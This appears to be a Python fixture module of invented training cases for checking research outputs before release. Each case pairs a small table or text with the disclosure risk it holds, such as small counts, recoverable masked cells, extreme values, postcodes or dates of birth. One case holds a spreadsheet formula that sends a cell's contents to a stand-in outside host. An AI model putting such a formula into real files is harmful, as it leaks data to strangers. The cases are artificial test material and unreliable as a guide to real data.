"""The cases of the training queue: small made-up files, each with what a checker should notice, or nothing.

Every number is invented. A fault is planted as people make it: forgotten, not hidden with care. About a third of the
files are as they should be, because sending those back costs researchers days and is counted too.
"""

from __future__ import annotations

from collections.abc import Sequence

from .service import TrainingCase

__all__ = ["TRAINING_CASES"]


def _table(*rows: Sequence[object]) -> bytes:
    return ("\n".join(",".join(map(str, row)) for row in rows) + "\n").encode()


def _case(case_id: str, name: str, content: bytes, context: str, lesson: str, *rules: str) -> TrainingCase:
    return TrainingCase(case_id=case_id, name=name, content=content, context=context, rules=rules, lesson=lesson)


_SMALL_NUMBERS = (
    _case(
        "small-count", "outcomes.csv",
        _table(("outcome", "patients"), ("recovered", 412), ("readmitted", 57), ("died in theatre", 4)),
        "Outcomes of the cohort, for table 2 of the paper.",
        "Four people died in theatre. Counts from 1 to 9 are left out, grouped with others or masked.",
        "SMALL_COUNT",
    ),
    _case(
        "small-count-in-words", "summary.md",
        b"# Results\n\nOf 812 patients, 391 had a scan. Adverse reactions were rare (n = 3).\n",
        "Words for the abstract.",
        "Small counts stand in sentences as often as in tables: three people had a reaction.",
        "SMALL_COUNT",
    ),
    _case(
        "small-count-in-a-wide-table", "sites.csv",
        _table(("site", "mild", "moderate", "severe"), ("North", 44, 31, 18), ("South", 52, 27, 6),
               ("East", 39, 35, 21)),
        "Severity by site.",
        "Six people at the southern site were severely ill. In a crosstab every cell is a count.",
        "SMALL_COUNT",
    ),
    _case(
        "nobody", "smoking.csv",
        _table(("group", "current smoker", "never smoked"), ("nurses", 0, 88), ("porters", 34, 61)),
        "Smoking by occupation.",
        "A zero says something of every nurse. Ask whether it is known anyway; otherwise groups are joined.",
        "ZERO_COUNT",
    ),
    _case(
        "everybody", "vaccinated.csv",
        _table(("practice type", "n", "percent"), ("rural", 63, "100.0"), ("urban", 214, "87.4")),
        "Uptake by type of practice.",
        "All 63 people of rural practices were vaccinated: the table says it of each of them.",
        "ALL_OF_GROUP",
    ),
    _case(
        "all-the-same", "dose.csv",
        _table(("arm", "n", "mean", "sd"), ("A", 48, "20.0", "0.0"), ("B", 51, "17.2", "3.1")),
        "Daily dose by arm.",
        "A standard deviation of 0 means that all 48 have the same value, which is then known of each.",
        "ALL_SAME_VALUES",
    ),
)  # fmt: skip
_GIVEN_BACK = (
    _case(
        "total-gives-back", "stage.csv",
        _table(("stage", "women", "men", "Total"), ("I", 61, 48, 109), ("II", 37, "<10", 43), ("Total", 98, 54, 152)),
        "Stage by sex; small counts are masked.",
        "43 less 37 is 6: a total beside one masked cell gives it back. A second cell has to go, or the total.",
        "SUPPRESSION_UNDONE",
    ),
    _case(
        "share-gives-back", "causes.csv",
        _table(("cause", "n", "percent"), ("infection", 122, "61.0"), ("fall", 75, "37.5"), ("burn", "*", "1.5"),
               ("Total", 200, "100.0")),
        "Causes of admission; small counts are masked.",
        "1.5 percent of 200 is 3. Where a count is masked its share is masked too.",
        "SHARE_GIVES_COUNT",
    ),
    _case(
        "mean-of-few", "stay.csv",
        _table(("ward", "n", "mean days"), ("A", 140, "6.1"), ("B", 6, "21.4"), ("C", 96, "7.0")),
        "Length of stay by ward.",
        "A mean of six people is nearly theirs, and their number is below the threshold as well.",
        "SMALL_COUNT", "SMALL_GROUP_STATISTIC",
    ),
)  # fmt: skip
_ONE_PERSON = (
    _case(
        "extremes", "age.csv",
        _table(("sex", "n", "mean", "min", "max"), ("F", 310, "61.2", 18, 103), ("M", 288, "60.4", 19, 97)),
        "Age of the cohort.",
        "The oldest is one woman of 103. Give percentiles with at least ten people beyond them instead.",
        "EXTREME_VALUE",
    ),
    _case(
        "percentile-of-few", "costs.csv",
        _table(("group", "n", "p99"), ("A", 120, 18430), ("B", 150, 17980)),
        "The highest costs of care.",
        "Beyond the 99th percentile of 120 people there is one: it is nearly that person’s value.",
        "FEW_BEHIND_PERCENTILE",
    ),
    _case(
        "dominance", "spending.csv",
        _table(("sector", "n", "total", "largest", "second largest"), ("dental", 22, 100000, 81000, 12000),
               ("optical", 35, 90000, 7000, 6500)),
        "Spending by sector.",
        "Two of 22 make up 93 percent of the dental total: each can work out the other.",
        "DOMINANCE", "EXTREME_VALUE",
    ),
    _case(
        "few-degrees", "model.txt",
        b"OLS Regression Results\nNo. Observations:   11\nDf Residuals:   6\nR-squared:   0.912\n",
        "Fit of the pilot model.",
        "Eleven people and five parameters leave six degrees of freedom; the fit comes close to the data themselves.",
        "LOW_DEGREES",
    ),
    _case(
        "at-risk", "survival.csv",
        _table(("time", "at risk", "survival"), (0, 120, "1.00"), (12, 74, "0.81"), (24, 33, "0.62"), (36, 5, "0.41")),
        "Survival by month.",
        "Five people are left at 36 months. A survival table ends where ten are at risk.",
        "SURVIVAL_AT_RISK",
    ),
)  # fmt: skip
_NAMED = (
    _case(
        "postcodes", "map.csv",
        _table(("area", "n"), ("NE98 4QT", 40), ("B99 4TX", 52), ("M99 2WD", 38), ("L74 9HJ", 61)),
        "Cases by area.",
        "A full postcode is some fifteen homes. Districts or larger areas leave.",
        "POSTCODE",
    ),
    _case(
        "births", "cohort.csv",
        _table(("sex", "date_of_birth"), ("F", "1951-03-14"), ("M", "1948-11-02"), ("F", "1960-07-29")),
        "The first lines of the cohort, as an example.",
        "Rows of people with dates of birth never leave, not even three as an example.",
        "DATE_OF_BIRTH",
    ),
    _case(
        "formula", "notes.csv",
        _table(("arm", "n", "note"), ("A", 120, '"=HYPERLINK(""https://x.example/""&B2)"'), ("B", 118, "ok")),
        "Counts with notes.",
        "A spreadsheet runs what begins with “=”: this one sends a cell to a stranger.",
        "FORMULA",
    ),
)  # fmt: skip
_AS_IT_SHOULD_BE = (
    _case(
        "clean-counts", "arms.csv",
        _table(("arm", "patients"), ("placebo", 120), ("low dose", 118), ("high dose", 121)),
        "People by arm.", "Nothing: large counts, nothing else.",
    ),
    _case(
        "clean-model", "cox.csv",
        _table(("term", "hazard ratio", "lower 95%", "upper 95%", "p"), ("age", "1.02", "1.01", "1.03", "0.001"),
               ("sex", "0.88", "0.71", "1.09", "0.24"), ("dose", "0.64", "0.52", "0.79", "0.000")),
        "Cox model of 1,204 people with 388 events.",
        "Nothing: these numbers are estimates. Small ones are not counts, and a p of 0.000 is not nobody.",
    ),
    _case(
        "clean-masked", "stage.csv",
        _table(("stage", "women", "men"), ("I", 61, 48), ("II", 37, "<10"), ("III", 29, 31)),
        "Stage by sex; small counts are masked.", "Nothing: one masked cell, and no total that would give it back.",
    ),
    _case(
        "clean-means", "age.csv",
        _table(("arm", "n", "mean age", "sd"), ("A", 120, "61.3", "9.8"), ("B", 118, "60.7", "10.2")),
        "Age by arm.", "Nothing: means and spreads of more than a hundred people each.",
    ),
    _case(
        "clean-words", "abstract.txt",
        b"We followed 1204 people for a median of 4.1 years. The hazard ratio was 0.64 (95% CI 0.52 to 0.79).\n",
        "The abstract.", "Nothing: large numbers and estimates.",
    ),
    _case(
        "clean-series", "monthly.csv",
        _table(("month", "admissions"), *((f"2023-{m:02d}", 410 + 17 * (m * 5 % 12)) for m in range(1, 13))),
        "Admissions by month.", "Nothing: every month has hundreds.",
    ),
)  # fmt: skip

TRAINING_CASES = (*_SMALL_NUMBERS, *_GIVEN_BACK, *_ONE_PERSON, *_NAMED, *_AS_IT_SHOULD_BE)
"""Every case, the planted ones first; the queue shows them to each person in an order of their own."""
